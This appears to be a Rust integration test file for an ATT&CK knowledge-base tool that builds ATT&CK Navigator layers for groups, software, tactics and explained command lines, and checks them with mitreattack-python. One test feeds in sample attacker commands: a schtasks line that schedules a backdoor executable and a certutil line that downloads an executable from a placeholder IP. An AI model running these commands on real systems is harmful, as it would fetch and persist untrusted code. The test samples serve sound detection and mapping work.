//! `kb layer` and `GET /v1/layer` as ATT&CK Navigator users meet them: every kind of layer kb
//! writes is read back with mitreattack-python's navlayers (the reference reader, from
//! tests/python/layer_read.py), and the techniques and scores it kept are checked against the
//! index; one layer is exported to Excel and one to SVG with its exporters, from the local
//! bundles. Every command and request here is bounded: a handful of runs, each with a timeout
//! of its own (the server's request timeout, urllib's).

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::path::PathBuf;

use attack_kb::explain::{self, Lang};
use attack_kb::index::KbIndex;
use attack_kb::model::Rel;
use attack_kb::query;
use common::*;
use serde_json::Value;

/// `kb layer ARGS -o FILE` in a scratch folder of its own; the file written.
fn layer_file(name: &str, args: &[&str]) -> PathBuf {
    let out = scratch(&format!("layer-{name}")).join(format!("{name}.json"));
    let path = out.to_str().expect("utf-8 path");
    let mut all = vec!["layer"];
    all.extend_from_slice(args);
    all.extend_from_slice(&["-o", path]);
    let o = kb(&all);
    assert!(
        o.status.success(),
        "kb {all:?} failed: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    out
}

/// What navlayers kept of each layer file; it must have read them without a word.
fn read(files: &[&PathBuf]) -> Vec<Value> {
    let args: Vec<&str> = files
        .iter()
        .map(|f| f.to_str().expect("utf-8 path"))
        .collect();
    let out = run_python("layer_read.py", &args);
    let layers: Vec<Value> = serde_json::from_str(&out).expect("the reader prints JSON");
    for l in &layers {
        assert_eq!(l["said"], "", "navlayers complained about {}", l["name"]);
    }
    layers
}

/// Scored techniques of a layer as navlayers read it: ID -> score (the same in every tactic).
fn scores(layer: &Value) -> BTreeMap<String, u64> {
    let mut m = BTreeMap::new();
    for t in layer["techniques"].as_array().expect("techniques") {
        if let Some(s) = t["score"].as_u64() {
            let id = t["id"].as_str().expect("id").to_string();
            let before = m.insert(id.clone(), s);
            assert!(
                before.is_none_or(|b| b == s),
                "{id} scored differently per tactic"
            );
        }
    }
    m
}

/// Every scored sub-technique has its parent listed in the same tactic, expanded.
fn assert_parents_expanded(layer: &Value) {
    let ts = layer["techniques"].as_array().expect("techniques");
    for t in ts.iter().filter(|t| !t["score"].is_null()) {
        let id = t["id"].as_str().expect("id");
        let Some((parent, _)) = id.split_once('.') else {
            continue;
        };
        assert!(
            ts.iter().any(|p| p["id"] == parent
                && p["tactic"] == t["tactic"]
                && p["show_subtechniques"] == true),
            "{id} is listed without its parent {parent} expanded in {}",
            t["tactic"]
        );
    }
}

fn in_domain(kb: &KbIndex, id: &str, domain: &str) -> bool {
    query::hit_by_id(kb, id)
        .expect("index reads")
        .is_some_and(|h| h.domains.iter().any(|d| d == domain))
}

/// The ATT&CK release of a domain in the test index (18.1), and its major part.
fn attack_major(kb: &KbIndex, domain: &str) -> String {
    let s = kb
        .manifest
        .sources
        .iter()
        .find(|s| s.domain == domain)
        .expect("the domain is indexed");
    s.version.split('.').next().expect("a version").to_string()
}

#[test]
fn group_layer_holds_what_the_group_and_its_campaigns_use() {
    let kb = open();
    let apt29 = query::show(&kb, "G0016").expect("APT29").entity;
    let mut expected: BTreeMap<String, u64> = BTreeMap::new();
    for t in apt29.related(Rel::Techniques) {
        *expected.entry(t.id.clone()).or_default() += 1;
    }
    for c in apt29.related(Rel::Campaigns) {
        let campaign = query::show(&kb, &c.id).expect("campaign").entity;
        for t in campaign.related(Rel::Techniques) {
            *expected.entry(t.id.clone()).or_default() += 1;
        }
    }
    expected.retain(|id, _| in_domain(&kb, id, "enterprise-attack"));
    assert!(
        expected.contains_key("T1078"),
        "the index lists T1078 for APT29"
    );

    let by_name = layer_file("apt29", &["--group", "APT29", "--lang", "en"]);
    let by_alias = layer_file("cozy", &["--group", "Cozy Bear", "--lang", "en"]);
    let layers = read(&[&by_name, &by_alias]);
    let l = &layers[0];
    assert_eq!(l["domain"], "enterprise-attack");
    assert_eq!(l["versions"]["layer"], "4.5");
    assert_eq!(
        l["versions"]["attack"],
        attack_major(&kb, "enterprise-attack")
    );
    assert_eq!(
        scores(l),
        expected,
        "APT29's techniques and their use counts"
    );
    assert_eq!(
        scores(&layers[1]),
        expected,
        "the alias selects the same group"
    );
    assert_parents_expanded(l);
    let t1078 = l["techniques"]
        .as_array()
        .expect("techniques")
        .iter()
        .find(|t| t["id"] == "T1078")
        .expect("T1078 listed");
    assert!(
        t1078["comment"]
            .as_str()
            .expect("comment")
            .contains("APT29 (G0016) uses it"),
        "{t1078}"
    );
    assert!(l["name"].as_str().expect("name").contains("APT29"));
    eprintln!(
        "APT29 layer: {} techniques, {} entries",
        expected.len(),
        l["techniques"].as_array().map_or(0, Vec::len)
    );
}

#[test]
fn software_and_id_layers_hold_exactly_what_they_name() {
    let kb = open();
    let mimikatz = query::show(&kb, "S0002").expect("Mimikatz").entity;
    let expected: BTreeSet<String> = mimikatz
        .related(Rel::Techniques)
        .iter()
        .map(|t| t.id.clone())
        .filter(|id| in_domain(&kb, id, "enterprise-attack"))
        .collect();
    let soft = layer_file("mimikatz", &["--software", "Mimikatz"]);
    let ids = layer_file("ids", &["--ids", "T1053.005,T1059.001"]);
    let layers = read(&[&soft, &ids]);
    let got: BTreeSet<String> = scores(&layers[0]).into_keys().collect();
    assert_eq!(got, expected);
    assert_parents_expanded(&layers[0]);
    let ids = scores(&layers[1]);
    assert_eq!(
        ids,
        BTreeMap::from([("T1053.005".into(), 1), ("T1059.001".into(), 1)])
    );
    assert_parents_expanded(&layers[1]);
    // The parents are shown, not scored: only the sub-techniques were asked for.
    let parents: BTreeSet<&str> = layers[1]["techniques"]
        .as_array()
        .expect("techniques")
        .iter()
        .filter(|t| t["score"].is_null())
        .filter_map(|t| t["id"].as_str())
        .collect();
    assert_eq!(parents, BTreeSet::from(["T1053", "T1059"]));
}

#[test]
fn tactic_layer_by_id_english_and_japanese_name_and_domain() {
    let kb = open();
    let ta0003 = query::show(&kb, "TA0003").expect("TA0003").entity;
    let expected: BTreeSet<String> = ta0003
        .related(Rel::Techniques)
        .iter()
        .map(|t| t.id.clone())
        .collect();
    let by_id = layer_file("ta0003", &["--tactic", "TA0003"]);
    let by_name = layer_file("persistence", &["--tactic", "persistence"]);
    let by_ja = layer_file("jousetsu", &["--tactic", "常設"]);
    let search = layer_file("search-jousetsu", &["--search", "常設"]);
    let mobile = layer_file(
        "mobile-persistence",
        &["--tactic", "persistence", "--domain", "mobile"],
    );
    let layers = read(&[&by_id, &by_name, &by_ja, &search, &mobile]);
    let got = scores(&layers[0]);
    assert_eq!(
        got.keys().cloned().collect::<BTreeSet<_>>(),
        expected,
        "TA0003's techniques"
    );
    for l in &layers[1..4] {
        assert_eq!(scores(l), got, "{} selects TA0003 too", l["name"]);
    }
    // Scored in the persistence column only; the score is how many groups use it.
    for t in layers[0]["techniques"].as_array().expect("techniques") {
        if !t["score"].is_null() {
            assert_eq!(t["tactic"], "persistence", "{t}");
        }
    }
    let groups = query::show(&kb, "T1053.005")
        .expect("T1053.005")
        .entity
        .related(Rel::Groups)
        .len() as u64;
    assert!(groups > 0);
    assert_eq!(got["T1053.005"], groups);
    assert_parents_expanded(&layers[0]);

    let m = &layers[4];
    assert_eq!(m["domain"], "mobile-attack");
    let ta0028: BTreeSet<String> = query::show(&kb, "TA0028")
        .expect("TA0028")
        .entity
        .related(Rel::Techniques)
        .iter()
        .map(|t| t.id.clone())
        .collect();
    assert!(!ta0028.is_empty());
    assert_eq!(scores(m).into_keys().collect::<BTreeSet<_>>(), ta0028);
    assert_eq!(m["versions"]["attack"], attack_major(&kb, "mobile-attack"));
}

#[test]
fn explained_command_lines_from_stdin_and_a_search() {
    let kb = open();
    let lines = [
        r#""schtasks.exe" /create /SC ONCE /TN Troj /TR C:\Users\vmadmin\Desktop\WinATP-Intro-Backdoor.exe /ST 13:36 /F"#,
        "certutil -urlcache -f http://198.51.100.7/a.exe a.exe",
    ];
    let mut expected = BTreeSet::new();
    for l in lines {
        let found = explain::explain(&kb, l, Lang::Ja)
            .expect("explains")
            .techniques;
        // The program's usual abuse only counts where its line shows nothing more.
        assert!(found.iter().any(|t| t.confidence != "usual"));
        for t in found {
            if t.confidence != "usual" && in_domain(&kb, &t.id, "enterprise-attack") {
                expected.insert(t.id);
            }
        }
    }
    assert!(expected.contains("T1053.005") && expected.contains("T1105"));
    let dir = scratch("layer-stdin");
    let file = dir.join("lines.json");
    let o = kb_stdin(
        &["layer", "--explain", "-", "--lang", "ja"],
        format!("{}\n\n{}\n", lines[0], lines[1]).as_bytes(),
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    std::fs::write(&file, &o.stdout).expect("write");
    let schtasks = layer_file("schtasks", &["--search", "schtasks"]);
    let layers = read(&[&file, &schtasks]);
    let l = &layers[0];
    let got = scores(l);
    assert_eq!(got.keys().cloned().collect::<BTreeSet<_>>(), expected);
    assert_parents_expanded(l);
    let ts = l["techniques"].as_array().expect("techniques");
    let t1105 = ts
        .iter()
        .find(|t| t["id"] == "T1105")
        .expect("T1105 listed");
    assert!(
        t1105["comment"]
            .as_str()
            .expect("comment")
            .contains("certutil -urlcache"),
        "the comment quotes the line: {t1105}"
    );
    // Japanese names in the metadata, from the index.
    let name_ja = query::hit_by_id(&kb, "T1053.005")
        .expect("reads")
        .and_then(|h| h.name_ja)
        .expect("T1053.005 has a Japanese name");
    let t = ts
        .iter()
        .find(|t| t["id"] == "T1053.005")
        .expect("T1053.005");
    assert!(
        t["metadata"]
            .as_array()
            .expect("metadata")
            .iter()
            .any(|m| m["name"] == "テクニック" && m["value"] == name_ja.as_str()),
        "{t}"
    );
    assert!(
        l["name"]
            .as_str()
            .expect("name")
            .contains("コマンドライン 2 行")
    );

    let s = scores(&layers[1]);
    assert!(
        s.contains_key("T1053.005"),
        "schtasks finds T1053.005: {s:?}"
    );
}

#[test]
fn a_selection_of_nothing_or_of_the_wrong_kind_is_refused() {
    let o = kb(&["layer", "--group", "no such group at all"]);
    assert_eq!(o.status.code(), Some(3));
    let o = kb(&["layer", "--group", "Mimikatz"]);
    assert_eq!(o.status.code(), Some(3));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("software S0002"), "{err}");
    let o = kb(&["layer", "--ids", "T1053.005", "--group", "APT29"]);
    assert_eq!(o.status.code(), Some(2), "one selection at a time");
}

#[test]
fn layers_export_to_excel_and_svg_from_the_local_bundles() {
    let dir = scratch("layer-export");
    let apt29 = layer_file("export-apt29", &["--group", "APT29", "--lang", "ja"]);
    let sandworm = layer_file(
        "export-sandworm",
        &["--group", "Sandworm Team", "--domain", "ics"],
    );
    for (layer, bundle_name, domain, kind) in [
        (&apt29, ENTERPRISE, "enterprise", "xlsx"),
        (&sandworm, ICS, "ics", "svg"),
    ] {
        let out = dir.join(format!("layer.{kind}"));
        let printed = run_python(
            "layer_export.py",
            &[
                layer.to_str().expect("utf-8"),
                bundle(bundle_name).to_str().expect("utf-8"),
                domain,
                kind,
                out.to_str().expect("utf-8"),
            ],
        );
        let v: Value = serde_json::from_str(&printed).expect("JSON");
        let bytes = std::fs::metadata(&out).expect("written").len();
        assert!(bytes > 1000, "{kind} export is {bytes} bytes");
        assert_eq!(v["bytes"].as_u64(), Some(bytes));
        eprintln!("{kind} export of {}: {bytes} bytes", layer.display());
    }
}

#[test]
fn serve_answers_layers_that_navigator_may_load_across_origins() {
    const ORIGIN: &str = "https://mitre-attack.github.io";
    let index = index_dir().to_str().expect("utf-8").to_string();
    let server = serve_with(&["--index", &index], &["--cors", ORIGIN]);
    let url = format!("http://{}/v1/layer?group=APT29&lang=ja", server.addr);
    let out = run_python("layer_read.py", &["--url", &url, ORIGIN]);
    let v: Value = serde_json::from_str(&out).expect("JSON");
    assert_eq!(v["preflight"]["status"], 200, "{v}");
    assert_eq!(v["preflight"]["allow_origin"], ORIGIN);
    assert_eq!(v["preflight"]["allow_private_network"], "true");
    assert_eq!(v["status"], 200);
    assert_eq!(v["allow_origin"], ORIGIN);
    assert!(
        v["content_type"]
            .as_str()
            .is_some_and(|c| c.starts_with("application/json"))
    );
    let l = &v["layer"];
    assert_eq!(l["said"], "");
    assert!(l["name"].as_str().expect("name").contains("のテクニック"));
    let cli = layer_file("serve-apt29", &["--group", "APT29"]);
    let from_cli = read(&[&cli]);
    assert_eq!(
        scores(l),
        scores(&from_cli[0]),
        "the route and the CLI agree"
    );
}
